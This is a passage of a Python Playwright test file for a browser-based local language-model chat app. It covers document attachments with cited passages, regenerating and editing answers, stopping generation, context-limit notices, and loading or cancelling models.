    expect(new_chat.locator("#attach-problem")).to_contain_text(f"Tiny {MODEL} sees no pictures.")
    new_chat.press("#prompt", "Enter")
    expect(new_chat.locator(".message")).to_have_count(0)
    assert new_chat.input_value("#prompt") == "What is this?"
    new_chat.get_by_role("button", name="Remove red.png").click()
    new_chat.press("#prompt", "Enter")
    assert finished(new_chat)


def test_an_answer_names_the_passages_that_an_embedder_found(new_chat: Page) -> None:
    texts = {"keys.md": "# Keys\n\nThe keys come on Tuesday.", "no.docx": "PK\x03\x04"}
    new_chat.click("#attach summary")
    with new_chat.expect_file_chooser() as chooser:
        new_chat.click("[data-do=pick-documents]")
    chooser.value.set_files(
        [FilePayload(name=n, mimeType="", buffer=text.encode()) for n, text in texts.items()]
    )
    new_chat.click("#embedder [type=submit]", timeout=ENGINE_MS)
    expect(new_chat.locator(".document.kept small")).to_have_text("1 passage", timeout=ENGINE_MS)
    expect(new_chat.locator(".document.failed small")).to_contain_text("a zip archive")
    ask(new_chat, "When?")
    expect(new_chat.locator(".sources button")).to_contain_text(["keys.md, line"])
    new_chat.click(".sources button")
    expect(new_chat.locator("#passage-heading")).to_have_text("Keys")
    expect(new_chat.locator("#passage-text")).to_contain_text("The keys come on Tuesday.")
    new_chat.keyboard.press("Escape")
    new_chat.click("#chat-menu summary")
    new_chat.click("#chat-menu [data-do=delete-chat]")
    new_chat.click("#confirm [value=yes]")
    expect(new_chat.locator(".document")).to_have_count(0)


def test_answering_again_gives_the_same_at_temperature_0(new_chat: Page) -> None:
    ask(new_chat, "tell me")
    first = kept_messages(new_chat)[1]["content"]
    new_chat.click(".answer [data-do=again]")
    finished(new_chat)
    messages = kept_messages(new_chat)
    assert len(messages) == 2
    assert messages[1]["content"] == first
    expect(new_chat.locator(".answer .count")).to_contain_text("2 / 2")
    assert [m["content"] for m in kept_chats(new_chat)[0]["others"]] == [first]


def test_an_edited_message_is_another_version_of_what_comes_after(new_chat: Page) -> None:
    ask(new_chat, "one")
    ask(new_chat, "two")
    new_chat.click(".user [data-do=edit] >> nth=0")
    box = new_chat.locator(".edit textarea")
    expect(box).to_be_focused()
    new_chat.keyboard.press("Escape")
    expect(box).to_have_count(0)
    new_chat.click(".user [data-do=edit] >> nth=0")
    box.fill("three")
    box.press("Enter")
    finished(new_chat)
    assert [m["content"] for m in kept_messages(new_chat) if m["role"] == "user"] == ["three"]
    new_chat.click(".user [data-do=earlier]")
    expect(new_chat.locator(".user .bubble")).to_have_text(["one", "two"])
    others = kept_chats(new_chat)[0]
    assert len(others["messages"]) == 4 and len(others["others"]) == 2


def test_stop_is_instant_and_the_next_answer_is_right(new_chat: Page) -> None:
    ask(new_chat, "right")
    right = kept_messages(new_chat)[1]["content"]
    new_chat.click(".new")
    new_chat.fill("#prompt", "x " * 60)
    new_chat.press("#prompt", "Enter")
    expect(new_chat.locator("#stop")).to_be_visible()
    new_chat.keyboard.press("Escape")
    expect(new_chat.locator("#send")).to_be_visible(timeout=STOP_MS)
    expect(new_chat.locator(".answer .stats").last).to_contain_text("stopped")
    new_chat.click(".new")
    ask(new_chat, "right")
    assert kept_messages(new_chat)[1]["content"] == right


def test_an_answer_goes_on_while_another_chat_is_open(new_chat: Page) -> None:
    ask(new_chat, "the other one")
    new_chat.click(".new")
    new_chat.fill("#prompt", "goes on")
    new_chat.press("#prompt", "Enter")
    new_chat.click("#chats .open:has-text('the other one') >> nth=0")
    expect(new_chat.locator(".user .bubble")).to_have_text("the other one")
    expect(new_chat.locator("#send")).to_be_visible(timeout=ENGINE_MS)
    assert kept_messages(new_chat)[0]["content"] == "goes on"
    assert kept_messages(new_chat)[1]["stats"]["finish"] in ("stop", "length")


def test_too_long_a_chat_says_so_where_it_happened(new_chat: Page) -> None:
    new_chat.fill("#prompt", "word " * 200)
    new_chat.press("#prompt", "Enter")
    problem = new_chat.locator(".answer .problem")
    expect(problem).to_contain_text("512", timeout=ENGINE_MS)
    problem.locator("[data-do=new-chat]").click()
    ask(new_chat, "short")
    assert len(kept_messages(new_chat)) == 2


# These three tests leave another model loaded. They come last, because a load takes long on a software GPU.


def test_a_chat_beyond_the_context_says_what_the_model_no_longer_sees(new_chat: Page) -> None:
    """A notice stands where the model's view begins. The next answer leaves out the same messages and does not
    repeat the notice."""
    for word in ("one", "two"):
        ask(new_chat, f"{word} " * 40)
    assert not new_chat.locator(".forgot:visible").count()
    ask(new_chat, "three " * 40)
    notice = new_chat.locator(".answer").nth(2).locator(".forgot")
    expect(notice).to_have_text(re.compile("no longer sees the first 4 messages"))
    ask(new_chat, "four")
    assert new_chat.locator(".forgot:visible").count() == 1
    assert kept_messages(new_chat)[5]["forgot"] == 4


def test_a_base_model_continues_and_a_failed_load_can_be_tried_again(
    new_chat: Page, site: PageServer
) -> None:
    folder = site.site.models / ORGANISATION / OTHER
    hidden = folder.with_name(OTHER + "-hidden")
    folder.rename(hidden)
    try:
        choose(new_chat, OTHER)
        expect(new_chat.locator("#notice")).to_contain_text(
            f"Tiny {OTHER} did not load", timeout=ENGINE_MS
        )
    finally:
        hidden.rename(folder)
    new_chat.click("#notice [data-do=reload-model]")
    new_chat.wait_for_selector("body[data-model=ready]", timeout=ENGINE_MS)
    expect(new_chat.locator("#hero-text")).to_contain_text("base model")
    ask(new_chat, "Once upon")
    assert kept_messages(new_chat)[1]["stats"]["finish"] in ("stop", "length")


def test_loading_can_be_cancelled(engine_page: Page, site: PageServer) -> None:
    """The model from before is in use again, because the other model's weights had not started to arrive."""
    engine_page.click(".new")
    load(engine_page)
    name = f"Tiny {MODEL}"
    expect(engine_page.locator("#model-name")).to_have_text(name)
    site.site.stall_s = 4.0  # type: ignore[attr-defined]
    try:
        choose(engine_page, OTHER)
        expect(engine_page.locator("#load")).to_be_visible()
        engine_page.click("[data-do=cancel-load]")
        body = engine_page.locator("body")
        expect(body).to_have_attribute("data-model", "ready", timeout=STOP_MS)
        expect(engine_page.locator("#model-name")).to_have_text(name)
        expect(engine_page.locator("#load")).to_be_hidden()
    finally:
        site.site.stall_s = 0.0  # type: ignore[attr-defined]


def test_a_folder_of_ones_own(engine_page: Page, tmp_path: Path) -> None:
    engine_page.click(".new")
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "notes.gguf").write_bytes(b"GGUF")
    picker = engine_page.locator("input[type=file]")
    picker.set_input_files(empty)
    expect(engine_page.locator("#notice")).to_contain_text("convert")
    folder = tmp_path / "mine"
    shutil.copytree(GOLDENS / ROOMY, folder)
    chat_formats.write("qwen3.5", folder)
    picker.set_input_files(folder)
    expect(engine_page.locator("#model-name")).to_have_text("mine")
    engine_page.wait_for_selector("body[data-model=ready]", timeout=ENGINE_MS)
    ask(engine_page, "from a folder")
    answer = kept_messages(engine_page)[1]
    assert answer["model"] == "mine" and answer["reasoning"] == ""

    engine_page.click("[data-do=open-settings]")
    engine_page.select_option("[name=thinking]", "on")
    engine_page.keyboard.press("Escape")
    ask(engine_page, "think")
    answer = kept_messages(engine_page)[3]
    assert answer["reasoning"] and not answer["content"]  # cut off during thinking
    expect(engine_page.locator("#announce")).to_have_text("The answer is empty")
    last = engine_page.locator(".message.answer").last
    expect(last.locator(".thinking summary")).to_have_text(re.compile(r"Thought for \d+ s"))
    expect(last.locator(".thinking div")).to_be_hidden()
    expect(last.locator(".stats")).to_contain_text("cut at the limit")
